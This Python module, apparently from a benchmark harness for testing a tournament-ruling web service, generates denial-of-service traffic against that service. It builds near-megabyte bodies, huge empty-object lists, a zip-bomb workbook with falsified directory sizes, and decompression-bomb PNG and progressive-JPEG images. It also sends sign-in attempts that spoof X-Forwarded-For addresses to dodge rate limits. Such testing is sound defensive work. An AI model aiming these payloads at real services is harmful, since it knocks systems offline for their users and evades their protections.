"""What attackers send: bodies, files and photos that are as expensive as they may be."""

from __future__ import annotations

import json
import zipfile
from base64 import b64encode
from collections.abc import Callable
from http.client import HTTPConnection
from io import BytesIO
from itertools import count, cycle

from PIL import Image
from uuid_utils.compat import uuid7

from bench.attacks.clients import Requests, Target

MOST_SCANS, MOST_BYTES = 50, 500_000  # of a photo, as the server takes it
SCAN = b"\xff\xda"
JSON = {"Content-Type": "application/json"}
DECISION = "/api/v1/decisions"
PART = 2_000_000  # bytes of a worksheet's part, which deflate to 2 KB


def large_bodies(_: Target) -> Requests:
    """Yield whole bodies of nearly a megabyte, all from one address."""
    body = json.dumps({"foul": "x" * 990_000}).encode()
    while True:
        yield "POST", DECISION, {**JSON, "X-Forwarded-For": "198.51.100.1"}, body


def empty_items(address: str, field: str) -> Callable[[Target], Requests]:
    """Send a list of 330,000 empty objects, without signing in."""
    body = b'{"rulebook":{"id":"wrc-2022"},"%s":[%s]}' % (field.encode(), b",".join([b"{}"] * 330_000))

    def sent(_: Target) -> Requests:
        while True:
            yield "POST", f"/api/v1/{address}", JSON, body

    return sent


def pasted(address: str, text: str) -> Callable[[Target], Requests]:
    """Preview this text as a sheet, as a director."""
    return _sheet(address, {"csv": text})


def file(address: str, content: bytes) -> Callable[[Target], Requests]:
    """Preview this file as a sheet, as a director."""
    return _sheet(address, {"file": b64encode(content).decode()})


def _sheet(address: str, body: dict[str, str]) -> Callable[[Target], Requests]:
    written = json.dumps(body).encode()

    def sent(target: Target) -> Requests:
        while True:
            yield "POST", f"{target.hall.path}/{address}/preview", target.hall.headers, written

    return sent


def seatings(target: Target) -> Requests:
    """Ask for as many rounds as there may be, at tables for everybody, once these are there."""
    connection = HTTPConnection(*target.place, timeout=30)
    for number in range(len(target.hall.tables), len(target.hall.players) // 4):
        body = json.dumps({"label": f"More {number}"})
        connection.request("PUT", f"{target.hall.path}/tables/{uuid7()}", body, target.hall.headers)
        connection.getresponse().read()
    connection.close()
    for seed in count():
        asked = {"rounds": 50, "byes": "rotate", "seconds": 15, "seed": seed, "from_existing": False}
        yield "POST", f"{target.hall.path}/seating/proposal", target.hall.headers, json.dumps(asked).encode()


def lying_workbook(unpacked: int = 1_000) -> bytes:
    """Write a workbook whose part of so many megabytes is declared as a hundred bytes."""
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed:
        packed.writestr("xl/workbook.xml", b"<workbook/>")
        with packed.open("xl/sharedStrings.xml", "w", force_zip64=False) as part:
            for _ in range(unpacked // 2):
                part.write(b" " * PART)
    whole = bytearray(written.getvalue())
    sizes = whole.rindex(b"PK\x01\x02") + 24  # in the directory at the end, which readers believe
    whole[sizes : sizes + 4] = (100).to_bytes(4, "little")
    return bytes(whole)


def sign_ins(target: Target) -> Requests:
    """Yield attempts to sign in, each to an account and from an address of its own."""
    for number in count():
        body = json.dumps({"handle": f"{uuid7()}@example.org", "password": "heron umbrella seventeen"}).encode()
        address = f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}"
        headers = {**JSON, "Origin": target.address, "X-Forwarded-For": address}
        yield "POST", "/api/v1/account/sign-in", headers, body


def photos(picture: Callable[[], bytes]) -> Callable[[Target], Requests]:
    """Attach this photo to rulings, again and again."""

    def sent(target: Target) -> Requests:
        image = picture()
        connection = HTTPConnection(*target.place, timeout=30)
        rulings = []
        for call in target.hall.calls(64):
            rulings.append(uuid7())
            connection.request(
                "PUT", f"{target.hall.path}/rulings/{rulings[-1]}", json.dumps(call), target.hall.headers
            )
            connection.getresponse().read()
        connection.close()
        headers = {**target.hall.headers, "Content-Type": "application/octet-stream"}
        for ruling in cycle(rulings):
            yield "PUT", f"{target.hall.path}/rulings/{ruling}/photos/{uuid7()}", headers, image

    return sent


def wide_png() -> bytes:
    """Draw a picture of 16 million pixels in few bytes."""
    written = BytesIO()
    Image.new("RGB", (4000, 4000)).save(written, "PNG")
    return written.getvalue()


def layered_jpeg() -> bytes:
    """Draw 16 million pixels in as many layers as are let in, each of which is all of the picture again."""
    written = BytesIO()
    Image.new("L", (4000, 4000)).save(written, "JPEG", progressive=True)
    plain = written.getvalue()
    first = plain.index(SCAN)
    layer = plain[first:-2]
    layers = min((MOST_SCANS - plain.count(SCAN)) // layer.count(SCAN), (MOST_BYTES - len(plain)) // len(layer))
    return plain[:-2] + layer * layers + plain[-2:]
